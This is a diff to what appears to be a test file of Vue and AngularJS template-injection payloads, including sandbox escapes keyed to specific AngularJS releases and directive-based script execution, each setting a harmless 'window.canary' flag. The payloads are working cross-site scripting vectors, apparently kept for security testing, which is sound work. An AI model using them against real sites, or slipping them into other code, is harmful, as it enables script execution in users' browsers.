@@ -57,25 +57,31 @@ _VUE = {
     "once": "<p v-once v-text=\"''.sub.constructor('window.canary=1')()\"></p>",
 }
 
-# Ways out of AngularJS's sandbox, named after the releases that they are about; from 1.6 on there is none. They
-# were written down from memory and not run: the one for 1.5.9 is only the beginning of the published one.
+# Ways out of AngularJS's sandbox, by a release that each is for; from 1.6 on there is none. Run in Chromium from
+# 1.2.27 on; npm has no older releases, and the first three are as they were published.
 _ANGULAR = {
     "1-2-0": "{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'window.canary=1')()}}",
     "1-2-6": "{{(_=''.sub).call.call({}[$='constructor'].getOwnPropertyDescriptor(_.__proto__,$).value,0,'window.canary=1')()}}",
     "1-2-19": "{{toString.constructor.prototype.toString=toString.constructor.prototype.call;['a','window.canary=1'].sort(toString.constructor)}}",
-    "1-2-24": '{{{}.")));window.canary=1//"}}',
+    "1-2-27": '{{{}.")));canary=1//"}}',  # a dot would cut it in two
     "1-3-0": "{{!ready&&(ready=true)&&(!call?$$watchers[0].get(toString.constructor.prototype):(a=apply)&&(apply=constructor)&&(valueOf=call)&&(''+''.toString('F=Function.prototype;F.apply=F.a;delete F.a;delete F.valueOf;window.canary=1')))}}",
     "1-3-1": "{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=''.valueOf;$eval('x=window.canary=1//')}}",
     "1-3-3": "{{{}[{toString:[].join,length:1,0:'__proto__'}].assign=[].join;'a'.constructor.prototype.charAt=[].join;$eval('x=window.canary=1//')}}",
+    "1-3-20": "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=window.canary=1')}}",
     "1-4-0": "{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };window.canary=1//')}}",
-    "1-5-0": "{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=window.canary=1')}}",
-    "1-5-9": "{{c=''.sub.call;b=''.sub.bind;a=''.sub.apply;c.$apply=$apply;c.$eval=b;$evalAsync(\"window.canary=1\")}}",
+    "1-5-0": "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,window.canary=1,a')}}",
+    "1-5-9": (
+        "{{c=''.sub.call;b=''.sub.bind;a=''.sub.apply;c.$apply=$apply;c.$eval=b;op=$root.$$phase;$root.$$phase=null;"
+        "od=$root.$digest;$root.$digest=({}).toString;C=c.$apply(c);$root.$$phase=op;$root.$digest=od;B=C(b,c,b);"
+        "$evalAsync(\"astNode=pop();astNode.type='UnaryExpression';astNode.operator='(window.canary=1)+';"
+        "astNode.argument={type:'Identifier',name:'x'};\");m1=B($$asyncQueue.pop().expression,null,$root);"
+        "m2=B(C,null,m1);[].push.apply=m2;a=''.sub;$eval('a(b.c)');[].push.apply=a}}"
+    ),
     "1-6-new": "{{$new.constructor('window.canary=1')()}}",
     "1-6-pop": "{{[].pop.constructor('window.canary=1')()}}",
     "1-6-key": "{{0[a='constructor'][a]('window.canary=1')()}}",
-    "1-6-optional": "{{a=toString().constructor.prototype;a.charAt=a.trim;$eval('a,window.canary=1,a')}}",
     "filter": "{{['window.canary=1']|orderBy:'constructor.constructor(this)()'}}",
-    "filter-path": "<input ng-focus=\"$event.composedPath()|orderBy:'(z=constructor.constructor)(1)'\" autofocus>",
+    "filter-path": "<input ng-focus=\"$event.composedPath()|orderBy:'canary=1'\" autofocus>",  # ends at the window
     "event": '<input autofocus ng-focus="$event.view.canary=1">',
     "csp": "<p ng-app ng-csp><p ng-init=\"constructor.constructor('window.canary=1')()\"></p></p>",
     "class": "<p class=\"ng-init:constructor.constructor('window.canary=1')()\"></p>",
